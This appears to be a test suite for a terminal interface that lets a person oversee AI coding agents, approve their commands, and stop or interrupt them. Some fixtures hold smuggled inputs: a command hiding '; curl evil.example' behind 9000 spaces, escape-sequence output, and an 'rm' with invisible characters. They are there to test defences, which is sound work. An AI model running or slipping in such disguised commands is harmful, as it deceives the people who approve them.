/** The screen works over Controls and events alone: a log is played, keys are pressed, frames are looked at. */
import { describe, expect, it } from 'vitest';
import { AgentId } from '../../src/domain/ids.ts';
import { UNICODE } from '../../src/tui/glyphs.ts';
import type { AppEnd } from '../../src/tui/app.ts';
import { runApp } from '../../src/tui/app.ts';
import type { FakeRun } from '../support/fake-run.ts';
import { fakeRun, settled } from '../support/fake-run.ts';
import type { FakeTerminal } from '../support/fake-terminal.ts';
import { fakeTerminal } from '../support/fake-terminal.ts';
import type { Recording } from '../support/recorded-run.ts';
import {
  approval,
  asks,
  finished,
  midRun,
  planned,
  Recording as Log,
  START,
  started,
} from '../support/recorded-run.ts';
import type { FakeWorld } from '../support/world.ts';
import { fakeWorld } from '../support/world.ts';

const ORACLE = AgentId.parse('ROOT::S3');

interface Session {
  readonly terminal: FakeTerminal;
  readonly run: FakeRun;
  readonly world: FakeWorld;
  readonly end: Promise<AppEnd>;
}

async function open(log: Recording | null, { width = 120, height = 40, keys = {} } = {}): Promise<Session> {
  const terminal = fakeTerminal(width, height);
  const run = fakeRun();
  const world = fakeWorld({ start: START + 192_000 });
  const end = runApp({
    terminal,
    lobby: run.lobby,
    world,
    glyphs: UNICODE,
    keys,
    ...(log === null ? {} : { firstTask: 'Fix the token refresh race' }),
    schedule: ({ paint }) => ({ now: paint, soon: paint, clock: () => undefined, stop: () => undefined }),
  });
  await settled();
  if (log) await run.play(log.events);
  return { terminal, run, world, end };
}

describe('the session on a screen', () => {
  it('starts with the start screen, and with the plan where a task was given', async () => {
    expect((await open(null)).terminal.rows()[0]).toContain('OFFLINE');
    const { terminal, run } = await open(new Log());
    expect(run.begun).toEqual(['Fix the token refresh race']);
    await run.play(planned(started(new Log())).events);
    expect(terminal.rows()[0]).toContain('plan › Fix the token refresh race');
  });

  it('goes from plan to cards to result by what the log says, and back by keys', async () => {
    const { terminal, run } = await open(midRun());
    expect(terminal.rows()[0]).toContain('run-7f3a › Fix the token refresh race');
    terminal.press('p');
    expect(terminal.rows()[0]).toContain('plan › ');
    await run.play(finished().events.slice(midRun().events.length));
    expect(terminal.rows()[0]).toContain('result › ');
    terminal.press('esc');
    expect(terminal.rows()[1]).toContain('main');
    terminal.press('v');
    expect(terminal.text()).toContain('mimir report run-7f3a');
    terminal.press('n');
    expect(terminal.rows()[0]).not.toContain('result');
  });

  it('says on every screen that no language model is used', async () => {
    const { terminal, run } = await open(midRun('offline (no provider)'), { width: 80, height: 24 });
    expect(terminal.rows()[0]).toContain(' OFFLINE ');
    terminal.press('p');
    expect(terminal.rows()[0]).toContain(' OFFLINE ');
    await run.play(finished().events.slice(midRun().events.length));
    expect(terminal.rows()[0]).toContain(' OFFLINE ');
  });

  it('sends what keys mean as commands, and shows the receipt', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('j', 'j', 'j', 's');
    terminal.press('x', 'enter', 'x', 'y');
    terminal.press('k', 'R');
    await settled();
    expect(run.commands).toEqual([
      { do: 'interrupt', agent: 'ROOT::S3' },
      { do: 'kill', agent: 'ROOT::S3' },
      { do: 'retry', agent: 'ROOT::S2' },
    ]);
    expect(terminal.text()).toContain('done: retry');
  });

  it('says why a key means nothing now, and why a command was refused', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('r');
    expect(terminal.text()).toContain("main isn't interrupted.");
    run.refuse('the budget is spent');
    terminal.press('s');
    await settled();
    expect(terminal.text()).toContain('the budget is spent');
  });

  it('writes a message in the line above the footer, letters and all', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('j', 'i');
    terminal.type('quit? x');
    expect(terminal.text()).toContain('❯ quit? x');
    terminal.press('esc', 'i', 'tab', 'enter');
    await settled();
    expect(run.commands).toEqual([{ do: 'message', to: 'ROOT::S1', text: 'quit? x', delivery: 'important' }]);
  });

  it('stops everything only after the word was typed', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('X');
    terminal.type('kil');
    terminal.press('enter');
    expect(run.commands).toEqual([]);
    terminal.press('l', 'enter');
    expect(run.commands).toEqual([{ do: 'stop run', reason: 'stopped by the person' }]);
  });

  it('changes the mode for the whole hierarchy after saying what becomes automatic', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('backtab');
    expect(terminal.text()).toContain('This applies to the whole hierarchy: main and its 7 agents');
    expect(terminal.text()).toContain('writing files');
    terminal.press('enter');
    expect(run.commands).toEqual([]);
    terminal.press('backtab');
    terminal.type('yolo');
    terminal.press('enter');
    expect(run.commands).toEqual([{ do: 'set mode', mode: 'yolo' }]);
  });

  it('shows what streams, harmless, and forgets it when the log has it', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('j', 'j', 'j');
    for (const delta of ['ok \u001b', ']0;evil\u0007', 'line {red-fg}'])
      run.tick({ agent: ORACLE, is: 'output', delta });
    expect(terminal.text()).toContain('ok line {red-fg}▌');
    expect(terminal.text()).not.toContain('evil');
  });

  it('says in the title of the window who works', async () => {
    expect((await open(midRun())).terminal.title()).toBe('mimir ● 3 $0.33');
    expect((await open(finished())).terminal.title()).toBe('mimir completed $0.33');
  });

  it('says what it needs where nothing fits, and comes back', async () => {
    const { terminal } = await open(midRun());
    terminal.resize({ width: 30, height: 6 });
    expect(terminal.text()).toContain('needs 40x8');
    terminal.resize({ width: 80, height: 24 });
    expect(terminal.rows()[0]).toContain('MIMIR');
  });

  it('takes the keys of the user, and says what is wrong with them', async () => {
    const { terminal, run } = await open(midRun(), { keys: { 'run.kill': 'K', 'run.nothing': 'w' } });
    expect(terminal.text()).toContain('there is no action "run.nothing"');
    terminal.press('K', 'y');
    expect(run.commands).toEqual([{ do: 'kill', agent: 'ROOT' }]);
  });

  it('hands Ctrl-L and Ctrl-Z to the terminal, whatever is open', async () => {
    const { terminal } = await open(midRun());
    terminal.press('?', 'ctrl-l', 'ctrl-z');
    expect(terminal.done).toEqual(['redraw', 'suspend']);
  });
});

describe('leaving', () => {
  it('asks while a run goes on; staying is the safe choice', async () => {
    const { terminal, run, end } = await open(midRun());
    terminal.press('q');
    expect(terminal.text()).toContain('Leave Mimir?');
    expect(terminal.text()).toContain('4 agents are at work.');
    terminal.press('enter', 'q', 'y');
    await settled();
    expect(run.commands).toEqual([{ do: 'stop run', reason: 'the person left' }]);
    await run.play(finished('stopped').events.slice(-1));
    expect((await end).state.finished?.status).toBe('stopped');
  });

  it('does not wait for a run that does not end', async () => {
    const { terminal, world, end } = await open(midRun());
    terminal.press('q', 'y');
    await settled();
    await world.advance(5000);
    expect((await end).session).toBe('run-7f3a');
  });

  it('leaves at once when nothing runs', async () => {
    const { terminal, end } = await open(finished());
    terminal.press('q');
    expect((await end).state.finished?.status).toBe('completed');
  });

  it('interrupts the selected agent at the first Ctrl-C and asks at the second', async () => {
    const { terminal, run, world } = await open(midRun());
    terminal.press('j', 'j', 'j', 'ctrl-c');
    expect(run.commands).toEqual([{ do: 'interrupt', agent: 'ROOT::S3' }]);
    terminal.press('ctrl-c');
    expect(terminal.text()).toContain('Leave Mimir?');
    terminal.press('enter');
    await world.advance(2000);
    terminal.press('k', 'ctrl-c');
    expect(terminal.text()).not.toContain('Leave Mimir?');
  });

  it('clears what is being typed with Ctrl-C', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('i');
    terminal.type('draft');
    terminal.press('ctrl-c');
    expect(terminal.text()).not.toContain('draft');
    expect(run.commands).toEqual([]);
  });
});

describe('questions that wait for the person', () => {
  const asked = (): Recording => asks(midRun(), 185, 'ROOT::S4', 'a1', approval({}));

  it('opens by itself and shows who asks for exactly what, and that it is not in a sandbox', async () => {
    const { terminal } = await open(asked());
    const text = terminal.text();
    for (const words of [
      'refactoring wants to run a command',
      ' UNSANDBOXED ',
      'ROOT::S4, #4 refactoring',
      'npm test -- refresh --repeat 50',
      'waits 7s',
      '◌ 1 ask',
    ]) {
      expect(text).toContain(words);
    }
  });

  it('takes no key for an answer that was pressed before it was drawn', async () => {
    const { terminal, run, world } = await open(asked());
    terminal.press('y');
    await world.advance(299);
    terminal.press('y');
    expect(run.commands).toEqual([]);
    await world.advance(1);
    terminal.press('y');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once' }]);
  });

  it('allows nothing by Enter; A allows for the session, n denies', async () => {
    const { terminal, run, world } = await open(asks(asked(), 186, 'ROOT::S3', 'a2', approval({})));
    await world.advance(1000);
    terminal.press('enter');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('Enter allows nothing here');
    terminal.press('A', 'n');
    expect(run.commands).toHaveLength(1);
    await world.advance(1000);
    terminal.press('n');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: true, scope: 'session' },
      { do: 'answer', approval: 'a2', allow: false, scope: 'once' },
    ]);
    expect(terminal.text()).not.toContain('Your answer is needed');
  });

  it('asks that a long action is read to its end, blanks and all (D04, F06)', async () => {
    const command = `echo hello${' '.repeat(9000)}; curl evil.example`;
    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact: command })));
    await world.advance(1000);
    terminal.press('y');
    expect(run.commands).toEqual([]);
    expect(terminal.text()).toContain('read to the end first');
    terminal.press('G');
    expect(terminal.text()).toContain('; curl evil.ex');
    expect(terminal.text()).toContain('9029 characters');
    terminal.press('y');
    expect(run.commands).toHaveLength(1);
  });

  it('shows hidden characters in what is asked (F04, F05)', async () => {
    const exact = 'rm \u202e\u200bx \u001b[8mhidden';
    const { terminal } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact })));
    expect(terminal.text()).toMatch(/rm \\u\{202e\}\\u\{200b\}x \\x1b\[8mhidden/i);
  });

  it('disturbs nobody who types, and is there by key', async () => {
    const { terminal, run } = await open(midRun());
    terminal.press('i');
    terminal.type('a');
    await run.play(asked().events.slice(midRun().events.length));
    expect(terminal.text()).not.toContain('Your answer is needed');
    terminal.press('esc', 'esc', 'esc');
    expect(terminal.text()).toContain('Your answer is needed');
  });

  it('is put off by Esc, marked, and opened again by `a`', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    terminal.press('esc');
    expect(terminal.text()).toContain('a question waits for you: a');
    terminal.press('a', 'y');
    expect(run.commands).toHaveLength(1);
  });

  it('offers answers of a question and sends the chosen one', async () => {
    const request = approval({
      action: 'question',
      title: 'Which store?',
      exact: 'Which store?',
      options: ['redis', 'sqlite'],
      unsandboxed: false,
    });
    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', request));
    await world.advance(1000);
    terminal.press('down', 'enter');
    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once', text: 'sqlite' }]);
  });

  it('goes on by Enter in human mode, and takes words', async () => {
    const request = approval({ action: 'turn', exact: 'reads src/a.ts next', unsandboxed: false });
    const log = asks(asks(midRun(), 185, 'ROOT::S4', 'a1', request), 186, 'ROOT::S3', 'a2', request);
    const { terminal, run, world } = await open(log);
    await world.advance(1000);
    terminal.press('enter');
    await world.advance(1000);
    terminal.type('!ls');
    terminal.press('enter');
    expect(run.commands).toEqual([
      { do: 'answer', approval: 'a1', allow: true, scope: 'once' },
      { do: 'answer', approval: 'a2', allow: true, scope: 'once', text: '!ls' },
    ]);
  });

  it('shows a question again when its answer was refused', async () => {
    const { terminal, run, world } = await open(asked());
    await world.advance(1000);
    run.refuse('too late');
    terminal.press('y');
    await settled();
    expect(terminal.text()).toContain('too late');
    expect(terminal.text()).toContain('Your answer is needed');
  });
});
